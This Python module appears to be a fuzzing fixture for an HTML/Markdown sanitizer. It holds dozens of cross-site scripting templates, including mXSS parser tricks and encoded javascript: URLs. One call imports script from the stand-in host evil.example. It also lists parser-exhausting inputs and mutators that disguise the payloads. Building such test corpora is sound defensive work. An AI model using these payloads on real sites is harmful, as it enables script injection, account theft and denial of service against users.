"""Markup that means harm, in words of our own. ``{x}`` is what is to run."""

from __future__ import annotations

from html import escape
from random import Random
from typing import Final

CALLS: Final = ("alert(1)", "import('//evil.example/x.js')", "top.location='//evil.example'")

TEMPLATES: Final = (
    "<script>{x}</script>",
    "<scr<script>ipt>{x}</scr</script>ipt>",
    "<img src=x onerror={x}>",
    "<img/src='1'/onerror='{x}'//",
    "<svg onload={x}>",
    "<svg><g/onload={x}><animate onbegin={x} attributeName=x dur=1s>",
    "<svg><style><img src=1 onerror={x}></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror={x}>'>",
    "<math><mtext><table><mglyph><style><!--</style><p title='--&gt;&lt;img src onerror={x}&gt;'>",
    "<math><mi xlink:href='javascript:{x}'>press</mi></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={x}>",
    "<noscript><p title='</noscript><img src=x onerror={x}>'>",
    "<template><s><template><s><img src=x onerror={x}>x</s></template>",
    "<a href='javascript:{x}'>press</a>",
    "<a href='java\tscript:{x}'>press</a>",
    "<a href='&#x6A;avascript&colon;{x}'>press</a>",
    "<a href='\x01javascript:{x}'>press</a>",
    "<a href='data:text/html,<script>{x}</script>'>press</a>",
    "<a href='vbscript:{x}'>press</a>",
    "<a href='//evil.example/'>press</a> <a href='/\\evil.example'>press</a>",
    "<a href='https://good.example@evil.example/'>press</a>",
    "<a href='https://x.example/' onclick='{x}' style='position:fixed;inset:0'>press</a>",
    "[press](javascript:{x})",
    "[press](<java&#x0A;script:{x}>)",
    '[press][1]\n\n[1]: javascript:{x} "t"',
    '![x](https://evil.example/pixel.gif "onerror={x}")',
    '[a](https://x.example/"onmouseover="{x})',
    "[![](https://evil.example/p.png)](data:text/html;base64,PHNjcmlwdD4=)",
    '<javascript:{x}> <https://x.example/"onclick={x}>',
    "`<img src=x onerror={x}>` ``` <script>{x}</script> ```",
    "<iframe srcdoc='<script>{x}</script>'></iframe>",
    "<object data='javascript:{x}'></object><embed src='//evil.example/x.swf'>",
    "<base href='//evil.example/'><link rel=stylesheet href='//evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=javascript:{x}'>",
    "<style>@import '//evil.example/x.css';*{{background:url(javascript:{x})}}</style>",
    "<p style='background:url(//evil.example/p.gif)' class=comment-head id=c1>over</p>",
    "<input autofocus onfocus={x}><select autofocus onfocus={x}><textarea autofocus onfocus={x}>",
    "<details open ontoggle={x}><summary>x</summary></details>",
    "<video><source onerror={x}></video><audio src=x onerror={x}>",
    "<body onload={x}><frameset onload={x}>",
    "<!--><img src=x onerror={x}>--> <!-- --!><img src=x onerror={x}> -->",
    "<![CDATA[<img src=x onerror={x}>]]>",
    "<?xml version='1.0'?><?xml-stylesheet href='javascript:{x}'?>",
    "</div></article></body></html><script>{x}</script>",
    "</textarea></title></style><img src=x onerror={x}>",
    "<plaintext><xmp><listing>{x}",
    "<b <b <b onmouseover={x}>over</b>",
    "<p/onmouseover={x}/x>over</p><p\x0conmouseover={x}>over</p>",
    "<IMG SRC=x ONERROR={x}><ſcript>{x}</ſcript><ıframe src=//evil.example>",
    "＜script＞{x}＜/script＞",
    "&lt;script&gt;{x}&lt;/script&gt; &amp;lt;img src=x onerror={x}&amp;gt;",
    "\u202e<b>thgir ot tfel\u202c \u2066\u200b\ufeff\u00ad",
    "<ol start=99999999><li value=-1>x<li><ul><li><ol><li>y",
    "<pre><code>" + "<b>" * 5 + "{x}",
    "<a href='mailto:x@x.example?bcc=all@evil.example&body=%0d%0a'>write</a>",
    "<a href='https://xn--pple-43d.example/'>apple.example</a>",
)  # fmt: skip

#: What takes parsers longer than it is long.
COSTLY: Final = (
    "[" * 4_900,
    "[a](" * 1_200,
    "![" * 2_400,
    "`" * 2_499 + " " + "`" * 2_400,
    "*a_" * 1_600,
    "**a *b " * 700,
    "> " * 1_500 + "a",
    "\n".join(["> " * 19] * 120),
    "- " * 1_600 + "a",
    "1. a\n   " * 500,
    "<!--" * 99,
    "<p><b a>" * 50,
    "<a><b><i>" * 33,
    "<b " * 99 + "x" * 4_000,
    "&#" * 2_400,
    "&" * 4_900,
    "<" + "a" * 4_900,
    "<a href='" + "/" * 4_900,
    "[a]: x\n" * 700,
    "[a]\n" * 1_200 + "\n[a]: http://x.example/",
    "\\" * 4_900,
    "http://" * 700,
    "a@b." * 1_200,
    "<http://" * 99,
    "\n" * 4_900 + "a",
    " " * 4_900 + "a",
    "|" * 4_900,
    "a\u0301\u0323" * 1_600,
    "\u200d" * 4_900,
    "👩‍" * 2_000,
    "ﷺ" * 4_900,
    "x" * 200_000,
    "<" * 50_000,
)


def payload(chance: Random) -> str:
    """Return one, sometimes in disguise."""
    found = chance.choice(TEMPLATES).format(x=chance.choice(CALLS))
    return chance.choice(DISGUISES)(found, chance)


def _twice(found: str, chance: Random) -> str:
    return f"{found}\n\n{chance.choice(TEMPLATES).format(x=CALLS[0])}"


def _cases(found: str, chance: Random) -> str:
    return "".join(chance.choice((char.lower(), char.upper())) for char in found)


def _torn(found: str, chance: Random) -> str:
    """Return it cut off anywhere, with something in between."""
    at = chance.randrange(1, len(found))
    return found[:at] + chance.choice(("\t", "\n", "\x0b", "\x00", "/", "<", "\ufffd")) + found[at:]


def _cut(found: str, chance: Random) -> str:
    return "Look: " + found[: chance.randrange(1, len(found) + 1)]


DISGUISES: Final = (
    lambda found, _chance: found,
    lambda found, _chance: f"Nice *post*.\n\n> {found}\n\n1. {found}",
    lambda found, _chance: f"<blockquote><pre><code>{found}",
    lambda found, _chance: escape(found),
    lambda found, _chance: f"[{found}](https://x.example/)",
    _twice,
    _cases,
    _torn,
    _cut,
)
